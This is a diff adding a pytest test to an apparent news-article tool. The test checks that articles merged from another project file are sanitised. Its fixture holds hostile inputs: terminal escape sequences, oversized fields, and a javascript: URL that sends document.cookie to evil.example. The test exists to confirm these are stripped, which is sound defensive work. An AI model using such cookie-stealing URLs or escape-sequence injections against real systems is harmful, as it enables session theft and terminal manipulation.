@@ -13,8 +13,9 @@ from pathlib import Path
 
 import pytest
 
+from briefer.core.model import Article, Block, BlockKind
 from briefer.importers.encoding import NOT_TEXT
-from briefer.session import ImportStatus, Session
+from briefer.session import ImportStatus, Session, merge_project
 from tests.private_store import store_of
 
 PARAGRAPHS = [
@@ -198,3 +199,32 @@ def test_random_bytes_named_html_are_refused_as_the_text_importer_refuses_them(
         source.write_bytes(junk)
         assert _only(session, source) == (ImportStatus.FAILED, NOT_TEXT)
     assert session.query.list_articles() == []
+
+
+# -- 5. a merged project's articles ----------------------------------------------------
+
+
+def test_a_merged_projects_articles_are_bounded_as_imports_are(
+    session: Session, tmp_path: Path
+) -> None:
+    """Another project file is as untrusted as a page: its articles come in with the
+    bounds an import gives, not with a crafted title, address or by-line."""
+    other_path = tmp_path / "other.briefer"
+    with Session.create(other_path) as other:
+        crafted = Article(
+            title="Velden\x1b]0;owned\x07 fees " + "rise " * 120_000,
+            text=" ".join(PARAGRAPHS),
+            blocks=(Block(BlockKind.PARAGRAPH, 0, len(" ".join(PARAGRAPHS))),),
+            author="Anna\x1b[31m Groot " * 2_000,
+            publisher="Coastal\nTimes",
+            url="javascript:fetch('https://evil.example/?'+document.cookie)",
+        )
+        store_of(other).add_article(crafted, None)
+
+    assert merge_project(session, other_path).articles_added == 1
+    article = _article(session)
+    assert article.title.startswith("Velden fees rise") and article.title.endswith("…")
+    assert len(article.title) <= 500
+    assert article.author == "" and article.url == ""
+    assert article.publisher == "Coastal Times"
+    assert article.text == " ".join(PARAGRAPHS)
